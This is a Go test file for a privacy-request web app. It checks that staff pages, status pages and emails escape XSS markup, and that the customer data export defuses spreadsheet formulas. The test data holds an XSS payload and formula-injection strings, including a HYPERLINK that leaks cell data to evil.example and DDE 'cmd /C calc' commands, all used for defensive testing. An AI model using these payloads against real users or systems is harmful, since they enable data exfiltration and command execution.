package app_test

import (
	"archive/zip"
	"bytes"
	"context"
	"encoding/csv"
	"io"
	"net/http"
	"net/url"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/kactoily/privacydesk/demo"
	"github.com/kactoily/privacydesk/internal/testapp"
	"github.com/kactoily/privacydesk/internal/testdb"
	"github.com/kactoily/privacydesk/models"
	"github.com/kactoily/privacydesk/store"
)

// hostile is markup that runs if any page or email shows it unescaped.
const hostile = `<script>alert(1)</script><img src=x onerror=alert(2)>"'`

var (
	hostileRaw     = []string{"<script>alert(1)", "<img src=x"}
	hostileEscaped = "&lt;script&gt;alert(1)&lt;/script&gt;&lt;img src=x onerror=alert(2)&gt;"
)

// TestStaffFreeTextIsEscapedInPagesAndEmails puts markup in every
// free-text field staff type (a staff member's name, identity
// confirmation, note, extension, denial and cancellation reasons) and in
// the requester's name and details, then reads every staff page, the
// customer's status pages and every email: all of it is shown escaped.
func TestStaffFreeTextIsEscapedInPagesAndEmails(t *testing.T) {
	t.Parallel()
	testdb.Each(t, func(t *testing.T, dialect string) {
		a := testapp.New(t, dialect, actionOpts)
		admin, _ := signedIn(t, a, "ada@kactoily.example", "Ada Admin", models.RoleAdmin)
		wantStatus(t, admin.post(t, "/staff/admin/staff", url.Values{"name": {hostile}, "email": {"mal@kactoily.example"},
			"role": {"agent"}, "password": {"correct horse battery"}}), http.StatusSeeOther, "/staff/admin/staff")
		mal := staffUser(t, a, "mal@kactoily.example")

		file := func(email string) string {
			ans := admin.post(t, "/staff/requests/new", url.Values{"type": {"access"}, "email": {email}, "name": {hostile},
				"details": {hostile}, "identity_confirmed": {hostile}})
			wantStatus(t, ans, http.StatusSeeOther, "")
			return strings.TrimPrefix(ans.Header.Get("Location"), "/staff/requests/")
		}
		extended, denied, cancelled := file("ext@example.com"), file("den@example.com"), file("can@example.com")
		act := func(id, action string, form url.Values) {
			t.Helper()
			wantStatus(t, admin.post(t, "/staff/requests/"+id+"/"+action, form), http.StatusSeeOther, "/staff/requests/"+id)
		}
		act(extended, "assign", url.Values{"assignee": {strconv.FormatInt(mal.ID, 10)}})
		act(extended, "note", url.Values{"note": {hostile}})
		act(extended, "extend", url.Values{"days": {"10"}, "reason": {hostile}})
		act(denied, "deny", url.Values{"reason": {hostile}})
		act(cancelled, "cancel", url.Values{"reason": {hostile}})

		pages := []string{"/staff/queue", "/staff/queue?status=denied", "/staff/queue?status=cancelled", "/staff/admin/staff"}
		for _, id := range []string{extended, denied, cancelled} {
			pages = append(pages, "/staff/requests/"+id)
		}
		for _, p := range pages {
			ans := admin.get(t, p)
			wantStatus(t, ans, http.StatusOK, "")
			contains(t, ans.Body, hostileEscaped)
			lacks(t, ans.Body, hostileRaw...)
		}
		// What was typed comes back escaped on a refused sign-in and in the queue's search box.
		login := newBrowser(a).login(t, hostile, hostile)
		wantStatus(t, login, http.StatusUnauthorized, "")
		search := admin.get(t, "/staff/queue?q="+url.QueryEscape(hostile))
		wantStatus(t, search, http.StatusOK, "")
		for _, ans := range []answer{login, search} {
			lacks(t, ans.Body, hostileRaw...)
			contains(t, ans.Body, "&lt;script&gt;alert(1)")
		}
		waits := map[string]string{
			"ext@example.com": "We need more time for your privacy request " + extended,
			"den@example.com": "About your privacy request " + denied,
			"can@example.com": "Your privacy request " + cancelled + " is cancelled",
		}
		for to, subject := range waits {
			m := a.Mail.WaitFor(t, to, subject)
			contains(t, m.HTML, hostileEscaped)
			receipt := a.Mail.WaitFor(t, to, "We have your privacy request")
			page := get(t, a, pathOf(t, a, receipt.Link("/status?token=")))
			wantStatus(t, page, http.StatusOK, "")
			if to == "den@example.com" { // the status page shows the denial reason
				contains(t, page.Body, hostileEscaped)
			}
			lacks(t, page.Body, hostileRaw...)
		}
		a.Mail.WaitFor(t, "privacy-team@kactoily.example", cancelled)
		for _, m := range a.Mail.Messages() {
			lacks(t, m.HTML, hostileRaw...)
			if strings.ContainsAny(m.Subject, "<>") {
				t.Errorf("subject carries markup: %q", m.Subject)
			}
		}
		// The report's CSV has only types and numbers, whatever was typed.
		ans := admin.get(t, "/staff/reports.csv?from=2026-01-01&to=2026-12-31")
		wantStatus(t, ans, http.StatusOK, "")
		checkReportCSV(t, ans)
	})
}

// checkReportCSV proves the compliance CSV is a fixed header and one row per
// request type of plain numbers, then the series and the appeals, dated
// rows of numbers, under a file name built only from dates.
func checkReportCSV(t *testing.T, ans answer) {
	t.Helper()
	if cd := ans.Header.Get("Content-Disposition"); !regexp.MustCompile(
		`^attachment; filename="privacy-requests-\d{4}-\d{2}-\d{2}-to-\d{4}-\d{2}-\d{2}\.csv"$`).MatchString(cd) {
		t.Errorf("Content-Disposition %q", cd)
	}
	rows, err := csv.NewReader(strings.NewReader(ans.Body)).ReadAll()
	n := 1 + len(models.AllRequestTypes)
	if err != nil || len(rows) < n+2 || rows[n][0] != "period_start" {
		t.Fatalf("report CSV: %d rows, %v\n%s", len(rows), err, ans.Body)
	}
	number := func(cell string) bool { // a count, days or a percentage; empty when nothing was answered
		v, err := strconv.ParseFloat(cell, 64)
		return cell == "" || (err == nil && v >= 0)
	}
	for _, row := range rows[1:n] {
		if !slices.Contains(models.AllRequestTypes, row[0]) {
			t.Errorf("report row type %q", row[0])
		}
		for _, cell := range row[1:] {
			if !number(cell) {
				t.Errorf("report cell %q is not a count or a number of days", cell)
			}
		}
	}
	date := regexp.MustCompile(`^\d{4}-\d{2}-\d{2}$`)
	for i, row := range rows[n+1:] {
		if i == len(rows)-n-3 && row[0] == "period_start" && row[2] == "appeals_received" {
			continue // the appeals table's header; its one row follows
		}
		if !date.MatchString(row[0]) || !date.MatchString(row[1]) {
			t.Errorf("report series period %q", row[:2])
		}
		for _, cell := range row[2:] {
			if !number(cell) {
				t.Errorf("report series cell %q is not a number", cell)
			}
		}
	}
}

// TestExportCSVDefusesFormulasFromStoreRecords puts spreadsheet formulas in
// a customer's store records (name, phone, a support message), builds the
// customer's export, and reads every csv/*.csv in the ZIP: no cell starts
// a formula; each hostile value is there, behind a quote.
func TestExportCSVDefusesFormulasFromStoreRecords(t *testing.T) {
	t.Parallel()
	formulas := map[string]string{
		"first_name": `=HYPERLINK("http://evil.example/?leak="&A1,"Click me")`,
		"last_name":  `-2+3+cmd|' /C calc'!A0`,
		"phone":      `+1+cmd|' /C notepad'!A0`,
		"body":       `@SUM(1+1)*cmd|' /C calc'!A0`,
	}
	testdb.Each(t, func(t *testing.T, dialect string) {
		a := testapp.New(t, dialect, testapp.Options{Limits: roomy.Limits})
		ctx := context.Background()
		if _, err := demo.Seed(ctx, a.DB.DB, a.Clock.Now()); err != nil {
			t.Fatal(err)
		}
		email := demo.AlexMorganEmail
		if err := a.DB.Model(&store.Customer{}).Where("email = ?", email).Updates(map[string]any{
			"first_name": formulas["first_name"], "last_name": formulas["last_name"], "phone": formulas["phone"]}).Error; err != nil {
			t.Fatal(err)
		}
		res := a.DB.Exec("UPDATE store_support_messages SET body = ? WHERE author_kind = ? AND ticket_id IN (SELECT id FROM store_support_tickets WHERE email = ?)",
			formulas["body"], store.AuthorCustomer, email)
		if res.Error != nil || res.RowsAffected == 0 {
			t.Fatalf("plant a support message: %v (%d rows)", res.Error, res.RowsAffected)
		}
		a.AddStaff(t, "admin@kactoily.example", "Admin", models.RoleAdmin)
		_, path := completedAccess(t, a, staffUser(t, a, "admin@kactoily.example"), email, 1)
		ans := downloadZip(t, a, path, nil)
		wantStatus(t, ans, http.StatusOK, "")
		zr, err := zip.NewReader(bytes.NewReader([]byte(ans.Body)), int64(len(ans.Body)))
		if err != nil {
			t.Fatal(err)
		}
		found := map[string]bool{}
		for _, f := range zr.File {
			if !strings.HasPrefix(f.Name, "csv/") {
				continue
			}
			rc, err := f.Open()
			if err != nil {
				t.Fatal(err)
			}
			b, _ := io.ReadAll(rc)
			rc.Close()
			rows, err := csv.NewReader(bytes.NewReader(b)).ReadAll()
			if err != nil {
				t.Fatalf("%s: %v", f.Name, err)
			}
			for _, row := range rows {
				for _, cell := range row {
					if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
						if _, err := strconv.ParseFloat(cell, 64); err != nil {
							t.Errorf("%s: cell %q starts a formula", f.Name, cell)
						}
					}
					for name, v := range formulas {
						if cell == "'"+v {
							found[name] = true
						}
					}
				}
			}
		}
		for name := range formulas {
			if !found[name] {
				t.Errorf("the %s formula is not in the export's CSV behind a quote", name)
			}
		}
	})
}
